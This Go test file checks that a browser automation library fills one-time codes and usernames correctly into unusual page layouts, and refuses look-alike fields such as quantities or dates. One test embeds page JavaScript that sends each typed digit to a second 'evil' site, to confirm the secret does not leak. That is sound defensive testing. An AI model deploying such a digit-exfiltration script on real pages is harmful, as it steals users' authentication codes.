package page_test

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/bctrl-go/bctrl"
	"github.com/bctrl-go/bctrl/internal/browser"
	"github.com/bctrl-go/bctrl/internal/browser/browsertest"
)

// TestCodesAreFilledHoweverAPageTakesThem enters a code into boxes and into fields that
// are not what they look like. The page holds a placeholder, its server gets the code.
func TestCodesAreFilledHoweverAPageTakesThem(t *testing.T) {
	ctx, p, b := openPage(t)
	const code = "048151"
	boxes := func(each string) string {
		var out strings.Builder
		for _, n := range "123456" {
			out.WriteString(strings.ReplaceAll(each, "N", string(n)))
		}
		return out.String()
	}
	const small = ` aria-label=Digit style="width:30px;height:40px"`
	form := func(fields string) string {
		return `<form method=post action=/code>` + fields + `<button>Verify</button></form>`
	}
	one := `<script>document.querySelectorAll('form input').forEach((d, i, all) => d.oninput = () => {
		d.value = d.value.slice(-1); d.value && all[i + 1] && all[i + 1].focus() })</script>`
	grouped := `<script>document.querySelector('input').oninput = e => { const d = e.target.value.replace(/\D/g, '');
		e.target.value = d.length > 3 ? d.slice(0, 3) + ' ' + d.slice(3) : d }</script>`
	// A page that makes its boxes anew at each digit, and when they get the focus.
	anew := func(into, then string) string {
		return form(`<div></div><input type=hidden name=code>`) + `<script>{ const state = Array(6).fill(''); let at = 0;
			const root = document.querySelector('div')` + into + `; const draw = () => {
				root.innerHTML = state.map(d => '<input maxlength=1` + small + ` value="' + d + '">').join('');
				const all = [...root.children];
				all.forEach((d, i) => {
					d.onfocus = () => { if (at !== i) { at = i; draw(); root.children[i].focus() } };
					d.oninput = e => { state[i] = e.target.value; document.forms[0].code.value = state.join(''); ` + then + ` } }) };
			draw() }</script>`
	}
	for _, c := range []struct{ path, why, page, want string }{
		{"/anew", "all boxes are made anew at each digit", anew("", "draw(); all[i + 1] && root.children[i + 1].focus()"),
			"code=" + code},
		{"/soon", "they are made anew a moment later", anew("", "setTimeout(draw)"), "code=" + code},
		{"/hidden", "they are made anew in a component", anew(".attachShadow({mode: 'closed'})", "draw()"), "code=" + code},
		{"/next", "the next box alone is made anew", anew("", "root.children[i + 1]?.replaceWith("+
			"Object.assign(root.children[i + 1].cloneNode(), {oninput: root.children[i + 1].oninput}))"), "code=" + code},
		{"/single", "a field without a name is made anew at once", `<form><div></div><button>Verify</button></form>
			<script>{ let state = ''; const draw = () => { const at = document.querySelector('div');
			at.innerHTML = '<input aria-label=Code value="' + state + '">';
			at.firstChild.oninput = e => { state = e.target.value; draw() } }; draw();
			document.forms[0].onsubmit = e => { e.preventDefault(); fetch('/code', {method: 'POST',
			body: JSON.stringify({code: state})}) } }</script>`, `{"code":"` + code + `"}`},
		{"/named", "each box has a name of its own", form(boxes(`<input name=dN maxlength=1` + small + `>`)),
			"d1=0&d2=4&d3=8&d4=1&d5=5&d6=1"},
		{"/between", "other fields are sent between them",
			form(boxes(`<input name=dN maxlength=1` + small + `><input type=hidden name=hN value=9>`)),
			"d1=0&h1=9&d2=4&h2=9&d3=8&h3=9&d4=1&h4=9&d5=5&h5=9&d6=1&h6=9"},
		{"/script", "a script keeps one digit in each", form(boxes(`<input name=dN`+small+`>`)) + one,
			"d1=0&d2=4&d3=8&d4=1&d5=5&d6=1"},
		{"/joined", "a script joins them in a hidden field beside them",
			form(boxes(`<input name=dN maxlength=1`+small+`>`)+`<input type=hidden name=code>`) +
				`<script>document.forms[0].onsubmit = e => { const f = e.target;
			f.code.value = [...f.querySelectorAll('[maxlength]')].map(d => d.value).join('') }</script>`,
			"d1=0&d2=4&d3=8&d4=1&d5=5&d6=1&code=" + code},
		{"/grouped", "the page writes it in groups", form(`<input name=code aria-label=Code>`) + grouped, "code=048+151"},
		{"/clear", "it is transparent, over drawn boxes", form(`<input name=code aria-label=Code style="opacity:0">`),
			"code=" + code},
		{"/readonly", "it can be changed once it has the focus",
			form(`<input name=code aria-label=Code readonly onfocus="this.readOnly=false">`), "code=" + code},
		{"/json", "a script sends JSON, a key a box", form(boxes(`<input name=dN maxlength=1`+small+`>`)) +
			`<script>document.forms[0].onsubmit = e => { e.preventDefault(); fetch('/code', {method: 'POST',
			body: JSON.stringify(Object.fromEntries(new FormData(e.target)))}) }</script>`,
			`{"d1":"0","d2":"4","d3":"8","d4":"1","d5":"5","d6":"1"}`},
		{"/waits", "a box can be changed once the one before is full", form(boxes(`<input name=dN maxlength=1`+small+`>`)) +
			`<script>{ const all = [...document.querySelectorAll('form input')]; all.forEach((d, i) => { d.disabled = i > 0;
			d.oninput = () => { if (all[i + 1]) all[i + 1].disabled = !d.value } }) }</script>`,
			"d1=0&d2=4&d3=8&d4=1&d5=5&d6=1"},
		{"/keys", "a script writes each digit by itself", form(boxes(`<input name=dN maxlength=1`+small+`>`)) +
			`<script>document.querySelectorAll('form input').forEach((d, i, all) => d.onkeydown = e => {
			if (/^\d$/.test(e.key)) { e.preventDefault(); d.value = e.key; all[i + 1] && all[i + 1].focus() } })</script>`,
			"d1=0&d2=4&d3=8&d4=1&d5=5&d6=1"},
		{"/shadow", "the boxes are a component's, which joins them", form(`<div></div><input type=hidden name=code>`) +
			`<script>{ const root = document.querySelector('div').attachShadow({mode: 'closed'});
			root.innerHTML = '` + boxes(`<input maxlength=1 aria-label=Digit>`) + `'; const all = [...root.children];
			all.forEach(d => d.oninput = () => { document.forms[0].code.value = all.map(d => d.value).join('') }) }</script>`,
			"code=" + code},
		{"/click", "it can be changed once it was clicked",
			form(`<input name=code aria-label=Code readonly onclick="this.readOnly=false">`), "code=" + code},
		{"/later", "it can be changed a while after it has the focus",
			form(`<input name=code aria-label=Code readonly onfocus="setTimeout(() => this.readOnly=false, 150)">`),
			"code=" + code},
	} {
		s := browsertest.NewSite(t, map[string]string{c.path: c.page})
		obs := browsertest.Open(ctx, t, p, s.URL+c.path)
		require.NoError(t, p.Fill(ctx, obs.Elements[0].Ref, browsertest.Login("totp", code, s.URL)), c.why)
		filled := browsertest.Observe(ctx, t, p)
		browsertest.RequireUnseen(t, code, browsertest.InputValues(ctx, t, b), filled.Outline)
		for _, e := range filled.Elements {
			require.True(t, e.Role == "button" || e.Value == "[secret]", "%s: what was filled is not shown", c.why)
		}
		require.NoError(t, p.Click(ctx, browsertest.Find(t, filled, "button", "Verify").Ref, browser.Click{}), c.why)
		require.Eventually(t, func() bool { return len(s.RequestsTo("/code")) > 0 }, 10*time.Second, 10*time.Millisecond,
			c.why)
		require.True(t, s.RequestsTo("/code")[0].Body == c.want, c.why)
	}
}

// TestSmallFieldsOfAnotherUseAreNoBoxesForACode aims a code at rows of fields that look like
// boxes. No other field than the one that was named gets a digit.
func TestSmallFieldsOfAnotherUseAreNoBoxesForACode(t *testing.T) {
	ctx, p, b := openPage(t)
	six := func(each string) string {
		var out strings.Builder
		for _, n := range "123456" {
			out.WriteString(strings.ReplaceAll(each, "N", string(n)))
		}
		return out.String()
	}
	const small = ` aria-label=Field style="width:40px;height:30px"`
	for _, c := range []struct {
		why, page string
		refused   bool
	}{
		{"quantities of one digit, a line each", six(`<p><input maxlength=1 name=aN` + small + `></p>`), true},
		{"quantities of one digit in one line", six(`<input maxlength=1 name=qtyN` + small + `>`), true},
		{"quantities of sizes, labelled beside them",
			six(`<label>Quantity N <input maxlength=1 name=aN style="width:40px;height:30px"></label>`), true},
		{"quantities in cells that are far apart",
			`<table><tr>` + six(`<td style="width:150px"><input maxlength=1 name=aN`+small+`></td>`) + `</table>`, true},
		{"quantities of two digits", six(`<input maxlength=2 name=aN` + small + `>`), true},
		{"quantities that are numbers", six(`<input type=number min=0 max=99 name=aN` + small + `>`), false},
		{"quantities that are there already", six(`<input name=aN value=10` + small + `>`), false},
		{"more boxes than digits", six(`<input maxlength=1 name=aN`+small+`>`) + six(`<input maxlength=1 name=bN`+small+`>`),
			true},
		{"fewer boxes than digits", strings.Repeat(`<input maxlength=1 name=a`+small+`>`, 4), true},
		{"day, month, year, hour, minute, second",
			`<input name=day` + small + `><input name=month` + small + `><input name=year` + small + `>` +
				`<input name=hour` + small + `><input name=minute` + small + `><input name=second` + small + `>`, false},
		{"a date by its hints", strings.Repeat(`<input placeholder=DD maxlength=1`+small+`>`, 6), true},
		{"a card's expiry", `<input maxlength=2 name=mm` + small + `><input maxlength=2 name=yy` + small + `>`, true},
		{"a card's number and expiry", strings.Repeat(`<input autocomplete=cc-number`+small+`>`, 4) +
			strings.Repeat(`<input autocomplete=cc-exp`+small+`>`, 2), false},
		{"ratings", six(`<input type=number max=10 name=scoreN` + small + `>`), false},
	} {
		s := browsertest.NewSite(t, map[string]string{"/": `<form method=post>` + c.page + `</form>`})
		obs := browsertest.Open(ctx, t, p, s.URL+"/")
		fill := browsertest.Login("totp", "048151", s.URL)
		fill.Direct = true // what the page holds is the code's own
		err := p.Fill(ctx, obs.Elements[0].Ref, fill)
		values := strings.Split(browsertest.InputValues(ctx, t, b), "\n")[:strings.Count(c.page, "<input")]
		if c.refused {
			refusal := new(bctrl.Error)
			require.ErrorAs(t, err, &refusal, c.why)
			require.Contains(t, []string{"vault.fill_impossible", "page.not_typed"}, refusal.Code, c.why)
		} else if err == nil {
			values = values[1:]
		}
		for _, held := range values {
			require.True(t, held == "" || held == "10", "%s: another field has got a digit", c.why)
		}
	}
}

// TestACodeThatDoesNotFitSaysSo gives a code to one of two fields that take half of it each,
// into which it does not go directly either.
func TestACodeThatDoesNotFitSaysSo(t *testing.T) {
	ctx, p, b := openPage(t)
	s := browsertest.NewSite(t, map[string]string{"/": `<input aria-label=First maxlength=3><input maxlength=3>`})
	obs := browsertest.Open(ctx, t, p, s.URL+"/")
	for _, direct := range []bool{false, true} {
		fill := browsertest.Login("totp", "048151", s.URL)
		fill.Direct = direct
		err := p.Fill(ctx, obs.Elements[0].Ref, fill)
		require.ErrorContains(t, err, "vault.fill_impossible")
		require.ErrorContains(t, err, "takes 3 characters, and the code has 6")
		require.NotContains(t, err.Error(), "direct")
		require.True(t, strings.HasPrefix(browsertest.InputValues(ctx, t, b), "\n\n"))
	}
}

// TestEachDigitThatLeavesAloneIsTheCodes has a page send each box in a request of its own, as
// it is typed or afterwards, in forms, JSON and parts.
func TestEachDigitThatLeavesAloneIsTheCodes(t *testing.T) {
	t.Parallel()
	ctx, p, b := openPage(t)
	evil := browsertest.NewSite(t, nil)
	const code = "048151"
	row := `<form id=f>` + strings.Repeat(`<input class=d maxlength=1 aria-label=Digit>`, 6) +
		`<button>Verify</button></form><script>const all = [...document.querySelectorAll('.d')];
		all.forEach((d, i) => { d.name = 'd' + i }); const each = send => f.onsubmit = async e => { e.preventDefault();
		for (const d of all) await send(d) }; const post = (body, to = '/digit') => fetch(to, {method: 'POST', body});`
	for _, c := range []struct{ why, script string }{
		{"a form", `each(d => post(new URLSearchParams({[d.name]: d.value})))`},
		{"JSON", `each(d => post(JSON.stringify({[d.name]: d.value})))`},
		{"JSON with a number", `each(d => post(JSON.stringify({step: {[d.name]: Number(d.value)}})))`},
		{"parts", `each(d => { const data = new FormData(); data.append(d.name, d.value); return post(data) })`},
		{"as it is typed", `f.onsubmit = e => e.preventDefault();
			all.forEach(d => d.oninput = () => d.value && post(new URLSearchParams({[d.name]: d.value})))`},
		{"to another site as well", `each(async d => { await post(new URLSearchParams({[d.name]: d.value}));
			await post(new URLSearchParams({[d.name]: d.value}), '` + evil.URL + `/digit').catch(() => 0) })`},
	} {
		s := browsertest.NewSite(t, map[string]string{"/": row + c.script + `</script>`, "/digit": "ok"})
		obs := browsertest.Open(ctx, t, p, s.URL+"/")
		require.NoError(t, p.Fill(ctx, obs.Elements[0].Ref, browsertest.Login("totp", code, s.URL)), c.why)
		held := strings.Join(strings.SplitN(browsertest.InputValues(ctx, t, b), "\n", 7)[:6], "")
		require.Len(t, held, 6)
		require.NotEqual(t, code, held)
		require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Verify").Ref, browser.Click{}), c.why)
		require.Eventually(t, func() bool { return len(s.RequestsTo("/digit")) == 6 }, 10*time.Second, 10*time.Millisecond,
			c.why)
		require.True(t, digitsOf(s.RequestsTo("/digit")) == code, c.why)
		requireHidden(ctx, t, p, b, code)
	}
	require.Eventually(t, func() bool { return len(evil.RequestsTo("/digit")) == 6 }, 10*time.Second, 10*time.Millisecond)
	require.False(t, digitsOf(evil.RequestsTo("/digit")) == code, "another site gets what stands for it")
}

// digitsOf joins the digits of requests for "d0" to "d5", by these names.
func digitsOf(requests []browsertest.Received) string {
	name := regexp.MustCompile(`(?:^|")d(\d)\D+(\d)`) // not in the boundary of parts
	digits := make([]byte, 6)
	for _, r := range requests {
		if found := name.FindStringSubmatch(r.Body); found != nil {
			digits[found[1][0]-'0'] = found[2][0]
		}
	}
	return string(digits)
}

// TestAUsernameMayBeWrittenInAnotherWay fills a username that the page makes upper case.
func TestAUsernameMayBeWrittenInAnotherWay(t *testing.T) {
	ctx, p, b := openPage(t)
	s := browsertest.NewSite(t, map[string]string{
		"/": `<input aria-label=User oninput="this.value = this.value.toUpperCase()">`,
	})
	obs := browsertest.Open(ctx, t, p, s.URL+"/")
	require.NoError(t, p.Fill(ctx, obs.Elements[0].Ref, browsertest.Login("username", "ada", s.URL)))
	require.Contains(t, browsertest.InputValues(ctx, t, b), "ADA")
}

// TestAUsernameThatIsThereAlreadyIsFilled comes to the second step of a login, which shows
// the username and lets nobody change it. Another username there is refused.
func TestAUsernameThatIsThereAlreadyIsFilled(t *testing.T) {
	ctx, p, b := openPage(t)
	for _, fixed := range []string{"readonly", "disabled"} {
		s := browsertest.NewSite(t, map[string]string{
			"/": `<input aria-label=User value="ADA@example.com" ` + fixed + `>`,
		})
		obs := browsertest.Open(ctx, t, p, s.URL+"/")
		require.NoError(t, p.Fill(ctx, obs.Elements[0].Ref, browsertest.Login("username", "ada@example.com", s.URL)), fixed)
		require.Contains(t, browsertest.InputValues(ctx, t, b), "ADA@example.com")
		require.Equal(t, "[secret]", browsertest.Observe(ctx, t, p).Elements[0].Value)
		require.ErrorContains(t, p.Fill(ctx, obs.Elements[0].Ref, browsertest.Login("username", "bob@example.com", s.URL)),
			"page.disabled", fixed)
		require.ErrorContains(t, p.Fill(ctx, obs.Elements[0].Ref,
			browsertest.Login("username", "ada@example.com", "https://elsewhere.example")), "vault.origin_mismatch", fixed)
	}
}
